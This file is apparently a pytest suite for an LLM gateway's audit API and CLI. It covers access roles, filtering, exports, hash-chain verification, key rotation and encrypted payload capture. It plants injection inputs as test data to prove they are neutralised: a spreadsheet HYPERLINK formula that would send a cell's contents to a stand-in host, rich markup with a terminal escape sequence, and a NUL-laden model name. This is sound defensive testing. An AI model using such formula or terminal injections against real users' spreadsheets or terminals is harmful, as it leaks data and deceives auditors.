"""The auditor API and CLI against a real gateway, engine and database: who may read,
filters and pagination, exports, stats, verification, payload capture and decryption."""

from __future__ import annotations

import base64
import contextlib
import csv
import hashlib
import io
import json
import os
import resource
import signal
import sqlite3
import subprocess
import time
from datetime import UTC, datetime, timedelta, timezone

import msgspec
import pytest
import sqlalchemy as sa

from gateway.audit.capture import Keyring
from tests.conftest import GatewayFactory
from tests.support import BASTION, EngineRef, Gateway

pytestmark = pytest.mark.engine


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def gw(request: pytest.FixtureRequest, make_gateway: GatewayFactory, vllm_engine: EngineRef) -> Gateway:
    url = request.getfixturevalue("fresh_pg_url") if request.param == "postgres" else None
    return make_gateway(engines=[vllm_engine], database_url=url, audit={"checkpoint_every": 5})


def chat(gw: Gateway, key: str, text: str = "Hello", **kwargs: object) -> str:
    raw = gw.client(key).chat.completions.with_raw_response.create(
        model="tiny", messages=[{"role": "user", "content": text}], max_tokens=4, **kwargs
    )
    raw.parse()
    return raw.headers["x-request-id"]


def test_only_auditor_keys_read_the_trail_and_every_read_is_audited(gw: Gateway) -> None:
    user, admin, auditor = gw.create_key(role="user"), gw.create_key(role="admin"), gw.create_key(role="auditor")
    for key in (user, admin):
        for path in ("/admin/audit/events", "/admin/audit/stats", "/admin/audit/verify", "/admin/audit/events/x"):
            r = gw.get(path, key=key)
            assert r.status_code == 403, (path, r.text)
            assert r.json()["error"]["code"] == "permission_denied"
            record = gw.final(r.headers["x-request-id"])
            assert record["error_type"] == "role_not_allowed" and record["http_status"] == 403
    r = gw.get("/admin/audit/events", key=auditor, params={"limit": 3})
    assert r.status_code == 200, r.text
    action = gw.final(r.headers["x-request-id"])
    assert action["role"] == "auditor" and action["route"] == "/admin/audit/events"
    assert json.loads(action["detail"]) == {"action": "query", "filter": {}, "returned": 3, "cursor": None}


def test_filters_and_keyset_pages_cover_every_record_once(gw: Gateway) -> None:
    alice, bob = gw.create_key(name="alice", team="risk"), gw.create_key(name="bob", team="ops")
    auditor = gw.create_key(role="auditor", team="audit")
    ids = [chat(gw, alice) for _ in range(5)] + [chat(gw, bob) for _ in range(2)]
    alice_id = alice.split("_")[1]

    seen: list[dict[str, object]] = []
    cursor = None
    while True:
        params = {"key_id": alice_id, "phase": "final", "limit": 2} | ({"cursor": cursor} if cursor else {})
        body = gw.get("/admin/audit/events", key=auditor, params=params).json()
        seen += body["data"]
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert sorted(e["request_id"] for e in seen) == sorted(ids[:5])
    started = [(e["started_at"], e["id"]) for e in seen]
    assert started == sorted(started, reverse=True), "newest first"

    team = gw.get("/admin/audit/events", key=auditor, params={"team": "ops", "phase": "final"}).json()["data"]
    assert sorted(e["request_id"] for e in team) == sorted(ids[5:])
    one = gw.get("/admin/audit/events", key=auditor, params={"request_id": ids[0]}).json()["data"]
    assert {e["phase"] for e in one} == {"intent", "final"}
    window = {"since": seen[-1]["started_at"], "until": "2999-01-01T00:00:00Z", "model": "tiny", "status": 200}
    timed = gw.get("/admin/audit/events", key=auditor, params=window | {"phase": "final"}).json()["data"]
    assert set(ids) <= {e["request_id"] for e in timed}

    # Each of these (a digit int() refuses, numbers past what SQL columns
    # hold, times out of range once in UTC) was a 500 with no audit record.
    big_cursor = base64.urlsafe_b64encode(f'["2026-01-01T00:00:00Z",{2**70}]'.encode()).decode()
    early_cursor = base64.urlsafe_b64encode(b'["0001-01-01T00:00:00+05:00",1]').decode()
    for bad in (
        {"limit": 0}, {"limit": "x"}, {"limit": "²"}, {"since": "yesterday"}, {"cursor": "garbage"},
        {"colour": "red"}, {"status": 2**40}, {"cursor": big_cursor}, {"cursor": early_cursor},
        {"since": "0001-01-01T00:00:00+05:00"}, {"until": "9999-12-31T23:59:59-05:00"},
    ):  # fmt: skip
        r = gw.get("/admin/audit/events", key=auditor, params=bad)
        assert r.status_code == 400, (bad, r.text)
        assert r.json()["error"]["type"] == "invalid_request_error"
        assert gw.final(r.headers["x-request-id"])["error_type"] == "invalid_query"

    # A filter given twice answered for its last value alone: ops's records,
    # read as both teams'. Each route that reads a filter refuses it.
    for path, twice in (
        ("/admin/audit/events", [("team", "risk"), ("team", "ops")]),
        ("/admin/audit/events", [("phase", "final"), ("format", "csv"), ("format", "json")]),
        ("/admin/audit/stats", [("key_id", alice_id), ("key_id", "other")]),
        (f"/admin/audit/events/{ids[0]}", [("decrypt", "false"), ("decrypt", "true")]),
    ):
        r = gw.get(path, key=auditor, params=twice)
        assert r.status_code == 400, (twice, r.text)
        assert "more than once" in r.json()["error"]["message"]
        assert gw.final(r.headers["x-request-id"])["error_type"] == "invalid_query"
    # Verification checks the whole trail; a filter on it did nothing, silently.
    r = gw.get("/admin/audit/verify", key=auditor, params={"team": "ops"})
    assert r.status_code == 400 and "no parameters" in r.json()["error"]["message"], r.text
    assert gw.final(r.headers["x-request-id"])["error_type"] == "invalid_query"


def test_filters_find_text_as_the_trail_stores_it(gw: Gateway) -> None:
    """The trail stores NUL as U+FFFD (PostgreSQL text cannot hold it) and cuts
    text to its column. A filter with the caller's own text was a 500 with no
    audit record on PostgreSQL, and found nothing on SQLite."""
    user, auditor = gw.create_key(), gw.create_key(role="auditor")
    for model in ("tiny\x00evil", "m" * 5000):
        r = gw.post(
            "/v1/chat/completions", key=user, json={"model": model, "messages": [{"role": "user", "content": "x"}]}
        )
        assert r.status_code == 404, r.text
        found = gw.get("/admin/audit/events", key=auditor, params={"model": model, "phase": "final"})
        assert found.status_code == 200, found.text
        assert [e["request_id"] for e in found.json()["data"]] == [r.headers["x-request-id"]]


def test_exports_stream_every_match_as_jsonl_and_csv(gw: Gateway) -> None:
    user, auditor = gw.create_key(team="risk"), gw.create_key(role="auditor")
    ids = [chat(gw, user) for _ in range(3)]
    r = gw.get("/admin/audit/events", key=auditor, params={"format": "jsonl", "team": "risk", "phase": "final"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in r.text.splitlines()]
    assert [e["request_id"] for e in lines] == ids, "oldest first"
    r = gw.get("/admin/audit/events", key=auditor, params={"format": "csv", "team": "risk", "phase": "final"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["request_id"] for row in rows] == ids and rows[0]["record_hash"]
    intent, final = gw.records(r.headers["x-request-id"])
    asked = {"action": "export", "format": "csv", "filter": {"team": "risk", "phase": "final"}}
    assert intent["phase"] == "intent" and json.loads(intent["detail"]) == asked, "on record before any byte"
    assert json.loads(final["detail"]) == {**asked, "records": 3} and final["outcome"] == "ok"
    assert final["response_sha256"] == hashlib.sha256(r.content).hexdigest(), "the bytes the auditor got"


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(gw: Gateway) -> None:
    # The caller picks the model name, and the refusal records it; a cell that
    # starts with "=" would run in the auditor's spreadsheet.
    user, auditor = gw.create_key(team="risk"), gw.create_key(role="auditor")
    planted = '=HYPERLINK("https://x.invalid/?"&A1,"open")'
    r = gw.post(
        "/v1/chat/completions", key=user, json={"model": planted, "messages": [{"role": "user", "content": "hi"}]}
    )
    assert r.status_code == 404 and r.json()["error"]["param"] == "model"
    request_id = r.headers["x-request-id"]
    params = {"request_id": request_id, "phase": "final"}
    (exact,) = [
        json.loads(line)
        for line in gw.get("/admin/audit/events", key=auditor, params={"format": "jsonl", **params}).text.splitlines()
    ]
    assert exact["model"] == planted, "JSONL keeps the exact value"
    (row,) = csv.DictReader(
        io.StringIO(gw.get("/admin/audit/events", key=auditor, params={"format": "csv", **params}).text)
    )
    assert (row["request_id"], row["model"]) == (request_id, "'" + planted)
    out = gw.config.parent / "export.csv"
    gw.bastion("audit", "export", "--format", "csv", "--request-id", request_id, "--phase", "final", "-o", str(out))
    assert out.stat().st_mode & 0o777 == 0o600, "an export names keys, teams and client addresses"
    (row,) = csv.DictReader(io.StringIO(out.read_text()))
    assert (row["request_id"], row["model"], row["latency_ms"]) == (request_id, "'" + planted, str(exact["latency_ms"]))


def test_the_cli_prints_caller_chosen_text_as_text(gw: Gateway) -> None:
    # rich reads "[...]" as markup: a planted "[/b]" stopped `audit query` on
    # every page holding it, and a planted style could restyle the evidence.
    # It passes ESC through, which starts terminal sequences (here: clear the screen).
    user = gw.create_key(team="risk")
    planted = "[/b][link=https://x.invalid]tiny[/link]\x1b[2J"
    r = gw.post(
        "/v1/chat/completions", key=user, json={"model": planted, "messages": [{"role": "user", "content": "hi"}]}
    )
    assert r.status_code == 404
    request_id = r.headers["x-request-id"]
    wide = {**os.environ, "COLUMNS": "400"}
    for command in (["query", "--request-id", request_id], ["stats", "--model", planted]):
        out = subprocess.run(
            [BASTION, "audit", *command, "--config", str(gw.config)],
            capture_output=True,
            text=True,
            env=wide,
            timeout=60,
        )
        assert out.returncode == 0, out.stderr
        assert planted.replace("\x1b", "\\x1b") in out.stdout and "\x1b" not in out.stdout


def test_one_call_and_stats(gw: Gateway) -> None:
    user, auditor = gw.create_key(team="risk"), gw.create_key(role="auditor")
    request_id = chat(gw, user)
    body = gw.get(f"/admin/audit/events/{request_id}", key=auditor).json()
    assert [r["phase"] for r in body["records"]] == ["intent", "final"] and body["payloads"] == []
    assert gw.get("/admin/audit/events/nope", key=auditor).status_code == 404
    stats = gw.get("/admin/audit/stats", key=auditor, params={"bucket": "minute", "team": "risk"}).json()
    (row,) = stats["data"]
    final = gw.final(request_id)
    assert (row["model"], row["team"], row["outcome"], row["calls"]) == ("tiny", "risk", "ok", 1)
    assert (row["prompt_tokens"], row["completion_tokens"]) == (final["prompt_tokens"], final["completion_tokens"])
    assert row["bucket"] == final["started_at"].strftime("%Y-%m-%dT%H:%M:00Z")
    assert gw.get("/admin/audit/stats", key=auditor, params={"bucket": "week"}).status_code == 400


def test_verify_through_the_api_and_the_cli_and_a_tampered_row_fails_both(gw: Gateway) -> None:
    user, auditor = gw.create_key(), gw.create_key(role="auditor")
    for _ in range(7):
        chat(gw, user)
    report = gw.get("/admin/audit/verify", key=auditor).json()
    assert report["intact"] is True and report["records"] >= 14, report
    cli = gw.bastion("audit", "verify", "--json")
    assert json.loads(cli.stdout)["intact"] is True

    _sql(gw, "UPDATE audit_records SET completion_tokens = 9999 WHERE id = 3")
    report = gw.get("/admin/audit/verify", key=auditor).json()
    assert report["intact"] is False
    (broken,) = [s for s in report["streams"] if not s["intact"]]
    assert broken["first_problem"]["kind"] == "modified"
    cli = gw.bastion("audit", "verify", "--json", check=False)
    assert cli.returncode == 1 and json.loads(cli.stdout)["intact"] is False
    assert "NOT intact" in gw.bastion("audit", "verify", check=False).stdout


def test_cli_query_export_stats_and_prune_are_audited(gw: Gateway) -> None:
    user = gw.create_key("--expires-at", "2099-01-31T12:00:00Z", team="risk")
    ids = [chat(gw, user) for _ in range(3)]
    page = json.loads(gw.bastion("audit", "query", "--team", "risk", "--phase", "final", "--json").stdout)
    assert sorted(e["request_id"] for e in page["data"]) == sorted(ids)
    exported = gw.bastion("audit", "export", "--format", "jsonl", "--phase", "final", "--team", "risk").stdout
    assert [json.loads(line)["request_id"] for line in exported.splitlines()] == ids
    stats = json.loads(gw.bastion("audit", "stats", "--bucket", "day", "--json").stdout)
    assert sum(r["calls"] for r in stats["data"] if r["team"] == "risk") == 3
    assert gw.bastion("audit", "query", "--since", "soon", check=False).returncode == 2
    twice = gw.bastion("audit", "export", "--team", "risk", "--team", "ops", check=False)
    assert twice.returncode == 2 and "--team is given more than once" in twice.stderr, twice

    actions = {r["route"] for r in gw.records() if r["route"].startswith("cli.")}
    done = ("keys.create", "audit.query", "audit.export", "audit.export.end", "audit.stats")
    assert actions == {f"cli.{a}" for a in done}
    ended = next(r for r in gw.records() if r["route"] == "cli.audit.export.end")
    assert ended["outcome"] == "ok" and json.loads(ended["detail"]) == {"records": len(ids), "out": None}
    created = next(r for r in gw.records() if r["route"] == "cli.keys.create")
    assert json.loads(created["detail"])["key_id"] == user.split("_")[1] and created["auth_method"] == "os_user"
    assert json.loads(created["detail"])["expires_at"] == "2099-01-31T12:00:00.000000Z"  # on record with the key

    gw.stop()  # a clean stop closes the gateway's stream with a signed checkpoint
    # A cut-off a minute before every checkpoint, written for UTC+5: its
    # clock reads five hours later, and SQLite (which keeps no zone) compared
    # that with UTC times, deleting segments signed after the cut-off.
    early = datetime.now(timezone(timedelta(hours=5))) - timedelta(minutes=1)
    assert json.loads(gw.bastion("audit", "prune", "--before", early.isoformat(), "--yes", "--json").stdout) == []
    cut = datetime.now(UTC).isoformat()
    pruned = json.loads(gw.bastion("audit", "prune", "--before", cut, "--yes", "--json").stdout)
    assert sum(p["records"] for p in pruned) > 0
    assert json.loads(gw.bastion("audit", "verify", "--json").stdout)["intact"] is True
    remaining = gw.records()
    assert all(r["request_id"] not in ids for r in remaining)
    assert {r["route"] for r in remaining} >= {"cli.audit.prune", "cli.audit.verify"}


def test_a_rotated_signing_key_keeps_the_trail_verifiable(make_gateway: GatewayFactory, vllm_engine: EngineRef) -> None:
    gw = make_gateway(engines=[vllm_engine], audit={"checkpoint_every": 2})
    user, auditor = gw.create_key(), gw.create_key(role="auditor")
    for _ in range(2):
        chat(gw, user)
    key = gw.config.parent / "state" / "secrets" / "audit-signing.key"
    kept = key.read_bytes()
    rotation = json.loads(gw.bastion("audit", "signing-key", "rotate", "--json").stdout)
    old, new = rotation["old_key_id"], rotation["new_key_id"]
    assert key.read_bytes() != kept and key.stat().st_mode & 0o777 == 0o600
    (recorded,) = [r for r in gw.records() if r["route"] == "cli.audit.signing_key_rotate"]
    assert json.loads(recorded["detail"]) == {"old_key_id": old, "new_key_id": new}

    # The gateway signs with the new key once reloaded; the trail holds both.
    assert gw.proc is not None
    os.kill(gw.proc.pid, signal.SIGHUP)
    time.sleep(1)
    for _ in range(3):
        chat(gw, user)
    database = gw.database_url.removeprefix("sqlite+aiosqlite:///")
    with contextlib.closing(sqlite3.connect(database)) as db:
        signers = {k for (k,) in db.execute("SELECT key_id FROM audit_checkpoints WHERE stream_id = ?", (_stream(gw),))}
    assert signers == {old, new}
    report = gw.get("/admin/audit/verify", key=auditor).json()
    assert report["intact"] is True, report
    assert json.loads(gw.bastion("audit", "verify", "--json").stdout)["intact"] is True

    # Without the history, what the old key signed is signed by a key nobody trusts.
    history = key.with_name(key.name + ".history")
    assert sorted(p.name for p in history.iterdir()) == sorted([f"{old}.pub", f"{new}.pub"])
    history.rename(history.with_name("moved"))
    cli = gw.bastion("audit", "verify", "--json", check=False)
    assert cli.returncode == 1
    assert {s["first_problem"]["kind"] for s in json.loads(cli.stdout)["streams"] if not s["intact"]} == {"unknown_key"}
    history.with_name("moved").rename(history)

    # A rotation that cannot be put on record (the trail's files may not grow:
    # a full disk) is not done.
    kept = key.read_bytes()

    def full_disk() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (256, 256))

    failed = subprocess.run(
        [BASTION, "audit", "signing-key", "rotate", "--config", str(gw.config)],
        capture_output=True,
        text=True,
        preexec_fn=full_disk,
        check=False,
    )
    assert failed.returncode == 1 and "could not be audited" in failed.stderr, failed.stderr
    assert key.read_bytes() == kept and len(list(history.iterdir())) == 2


def _stream(gw: Gateway) -> str:
    """The gateway's own audit stream (the one its chat calls are on)."""
    return next(r["stream_id"] for r in gw.records() if r["route"] == "/v1/chat/completions")


def test_relaxed_mode_writes_one_record_after_the_call(make_gateway: GatewayFactory, vllm_engine: EngineRef) -> None:
    gw = make_gateway(engines=[vllm_engine], audit={"mode": "relaxed"})
    request_id = chat(gw, gw.create_key())
    assert [r["phase"] for r in gw.records(request_id)] == ["final"]


def test_capture_modes_per_team_and_audited_decryption(make_gateway: GatewayFactory, vllm_engine: EngineRef) -> None:
    # OPEN_POLICY gives `claims` encrypted capture and `hr` none.
    gw = make_gateway(engines=[vllm_engine], audit={"capture": "hash"})
    claims, hr = gw.create_key(team="claims"), gw.create_key(team="hr")
    auditor = gw.create_key(role="auditor")
    decryptor = gw.create_key("--can-decrypt", role="auditor", name="dpo")
    assert gw.bastion("keys", "create", "--name", "x", "--role", "user", "--can-decrypt", check=False).returncode == 2

    secret_prompt = "Claim 4711: patient Jane Roe, knee surgery"
    plain_id = chat(gw, claims, secret_prompt)
    streamed = gw.client(claims).chat.completions.create(
        model="tiny", messages=[{"role": "user", "content": secret_prompt}], max_tokens=4, stream=True
    )
    with streamed:
        streamed_id = streamed.response.headers["x-request-id"]
        streamed_text = b"".join(streamed.response.iter_bytes())
    hr_id = chat(gw, hr)

    hr_final = gw.final(hr_id)
    assert hr_final["capture"] == "none" and hr_final["request_sha256"] is None and hr_final["response_sha256"] is None
    stored = b"".join(f.read_bytes() for f in (gw.config.parent / "state").glob("bastion.db*"))
    assert b"Jane Roe" not in stored, "captured payloads are stored encrypted"

    body = gw.get(f"/admin/audit/events/{plain_id}", key=auditor).json()
    assert [(p["part"], p["truncated"]) for p in body["payloads"]] == [("request", False), ("response", False)]
    assert all("text" not in p for p in body["payloads"])
    r = gw.get(f"/admin/audit/events/{plain_id}", key=auditor, params={"decrypt": "true"})
    assert r.status_code == 403 and gw.final(r.headers["x-request-id"])["error_type"] == "decrypt_not_permitted"

    r = gw.get(f"/admin/audit/events/{plain_id}", key=decryptor, params={"decrypt": "true"})
    request_part, response_part = r.json()["payloads"]
    assert secret_prompt in request_part["text"] and request_part["matches_record"] is True
    assert json.loads(response_part["text"])["object"] == "chat.completion" and response_part["matches_record"]
    action = gw.final(r.headers["x-request-id"])
    assert json.loads(action["detail"]) == {
        "action": "decrypt",
        "request_id": plain_id,
        "parts": ["request", "response"],
    }
    assert action["key_name"] == "dpo"

    _, response_part = gw.get(f"/admin/audit/events/{streamed_id}", key=decryptor, params={"decrypt": "true"}).json()[
        "payloads"
    ]
    assert response_part["text"].encode() == streamed_text and response_part["matches_record"] is True

    # Rotation: new calls use the new key, old payloads still decrypt under the old one.
    ring_file = gw.config.parent / "state" / "secrets" / "audit-keyring.json"
    old_key = msgspec.json.decode(ring_file.read_bytes(), type=Keyring).active
    gw.bastion("audit", "keyring", "rotate")
    assert gw.proc is not None
    os.kill(gw.proc.pid, signal.SIGHUP)
    time.sleep(1)
    new_id = chat(gw, claims, secret_prompt)
    for request_id, under_old_key in ((plain_id, True), (new_id, False)):
        parts = gw.get(f"/admin/audit/events/{request_id}", key=decryptor, params={"decrypt": "true"}).json()[
            "payloads"
        ]
        assert secret_prompt in parts[0]["text"] and parts[0]["matches_record"] is True
        assert (parts[0]["key_id"] == old_key) is under_old_key


def _sql(gw: Gateway, statement: str) -> None:
    import asyncio

    from gateway.db import create_engine

    async def go() -> None:
        engine = create_engine(gw.database_url)
        try:
            async with engine.begin() as conn:
                await conn.execute(sa.text(statement))
        finally:
            await engine.dispose()

    asyncio.run(go())


@pytest.mark.parametrize("db", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def test_sigkill_under_load_loses_no_answered_call(
    make_gateway: GatewayFactory, vllm_engine: EngineRef, db: str, request: pytest.FixtureRequest
) -> None:
    import concurrent.futures

    import httpx

    url = request.getfixturevalue("fresh_pg_url") if db == "postgres" else None
    gw = make_gateway(engines=[vllm_engine], database_url=url, audit={"checkpoint_every": 7})
    key = gw.create_key()
    answered: list[str] = []
    stop = time.monotonic() + 3.0

    def client_loop() -> None:
        while True:
            try:
                r = gw.post(
                    "/v1/chat/completions",
                    key=key,
                    json={"model": "tiny", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 2},
                )
            except httpx.HTTPError:
                return  # the gateway is gone
            if r.status_code == 200:
                answered.append(r.headers["x-request-id"])
            if time.monotonic() > stop + 30:
                return

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        futures = [pool.submit(client_loop) for _ in range(8)]
        while time.monotonic() < stop:
            time.sleep(0.05)
        assert gw.proc is not None
        os.killpg(gw.proc.pid, signal.SIGKILL)
        gw.proc.wait()
        for f in futures:
            f.result()
    assert len(answered) > 10, "the load never got going"

    gw.start()  # the same database and anchor; a new stream
    chat(gw, key)
    gw.stop()
    by_request: dict[str, set[str]] = {}
    for r in gw.records():
        by_request.setdefault(r["request_id"], set()).add(r["phase"])
    missing = [rid for rid in answered if by_request.get(rid) != {"intent", "final"}]
    assert not missing, f"answered calls without both records: {missing[:5]}"
    report = json.loads(gw.bastion("audit", "verify", "--json").stdout)
    assert report["intact"] is True, report
    killed = [s for s in report["streams"] if not s["closed"]]
    assert len(killed) == 1, "the killed gateway's stream ends without a closing checkpoint"
    assert set(report["incomplete_calls"]).isdisjoint(answered)
